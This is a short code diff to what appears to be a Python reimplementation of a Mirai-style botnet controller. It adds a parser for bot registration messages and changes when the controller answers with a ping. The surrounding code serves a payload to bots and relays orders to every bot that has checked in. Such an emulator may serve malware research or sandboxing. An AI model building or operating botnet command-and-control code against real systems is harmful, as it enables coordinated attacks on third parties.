@@ -41,6 +41,14 @@ class Loader(Page):
         self.answer(200 if found else 404, payload() if found else b"not here\n", "application/octet-stream")
 
 
+def after_name(heard: bytes) -> bytes:
+    """What a bot said, without the words with which it calls for the first time."""
+    if not heard.startswith(orders.REGISTER):
+        return heard
+    start = len(orders.REGISTER)
+    return heard[start + 1 + (heard[start] if len(heard) > start else 0) :]
+
+
 class Controller:
     """Answers each sign of life in kind, as Mirai's does, and passes on orders to everybody who has called."""
 
@@ -59,7 +67,7 @@ class Controller:
                 heard = link.recv(64)
                 if not heard:
                     return
-                if not heard.startswith(orders.REGISTER):
+                if after_name(heard):
                     link.sendall(orders.PING)
         finally:
             with self._lock:
